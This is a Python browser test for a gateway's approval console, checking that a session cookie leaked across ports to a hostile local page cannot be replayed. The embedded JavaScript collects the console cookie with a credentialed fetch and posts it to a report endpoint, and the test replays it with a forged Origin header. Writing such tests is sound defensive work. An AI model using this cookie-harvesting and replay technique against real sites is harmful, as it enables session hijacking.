"""The console's cookie crosses ports, its key does not: real Chromium signed in to the
console, then sent to an agent's page on another port of the same host, which fetches the
console with credentials and collects the cookie for a replay with a forged ``Origin``."""

from __future__ import annotations

import json
from pathlib import Path

import httpx2
import pytest
from browser_kit import WAIT_MS, browser_console, expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse
from starlette.routing import Route

from ordergate._serving import BackgroundServer, bind_socket
from ordergate.gateway.console import COOKIE

BOUND_S = 30
_PAGE = """<!doctype html><title>agent</title><script>
(async () => {
  const gateway = %s;
  const report = {key: sessionStorage.getItem("ordergate-console-key")};
  // The console itself, with the browser's credentials (an opaque answer to this page).
  await fetch(gateway + "/console/approvals", {credentials: "include", mode: "no-cors"});
  // This page's own port under the console's path: the browser adds the console's cookie.
  const own = await fetch("/console/approvals", {credentials: "include"});
  report.collected = await own.text();
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
  document.title = "done";
})();
</script>"""


def _agent_app(gateway: str, collected: list[dict[str, str]]) -> Starlette:
    async def page(request: Request) -> HTMLResponse:
        return HTMLResponse(_PAGE % json.dumps(gateway))

    async def console(request: Request) -> JSONResponse:
        return JSONResponse({"cookie": request.headers.get("cookie", "")})

    async def report(request: Request) -> JSONResponse:
        collected.append(json.loads(await request.body()))
        return JSONResponse({})

    return Starlette(
        routes=[
            Route("/", page),
            Route("/console/approvals", console),
            Route("/report", report, methods=["POST"]),
        ]
    )


@pytest.mark.req("console.browser")
@pytest.mark.req("console.origin-bound")
def test_the_console_refuses_its_own_cookie_sent_by_the_browser_to_another_ports_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with browser_console(tmp_path, monkeypatch) as b:
        held = b.desk.held_order()
        b.sign_in_with_code()
        expect(b.page.locator("#approvals li.card")).to_have_count(1)
        host = b.desk.url.split("//")[1].split(":")[0]
        collected: list[dict[str, str]] = []
        sock = bind_socket("127.0.0.1", 0)
        with BackgroundServer(_agent_app(b.desk.url, collected), sock) as agent:
            gateway_port = b.desk.url.rsplit(":", 1)[1]
            with b.page.expect_response(
                lambda r: f":{gateway_port}/console/approvals" in r.url, timeout=WAIT_MS
            ) as answered:
                b.page.goto(f"http://{host}:{agent.port}/", wait_until="load")
            expect(b.page).to_have_title("done")
        # The browser's own request to the console, with the cookie, was refused, empty.
        assert answered.value.status == 401
        [report] = collected
        assert report["key"] is None  # another port's sessionStorage: no key
        cookie = json.loads(report["collected"])["cookie"]
        assert f"{COOKIE}=" in cookie  # the cookie did cross ports …
        # … and replayed with a forged Origin it reads nothing and changes nothing.
        stolen = dict(part.split("=", 1) for part in cookie.split("; "))
        with httpx2.Client(base_url=b.desk.url, cookies=stolen, timeout=BOUND_S) as replay:
            forged = {"origin": b.desk.url}
            page = replay.get("/console/approvals", headers=forged)
            assert page.status_code == 401 and held["approval_id"] not in page.text
            assert replay.post("/console/pause", data={}, headers=forged).status_code == 401
        assert not b.desk.get("/status").json()["paused"]
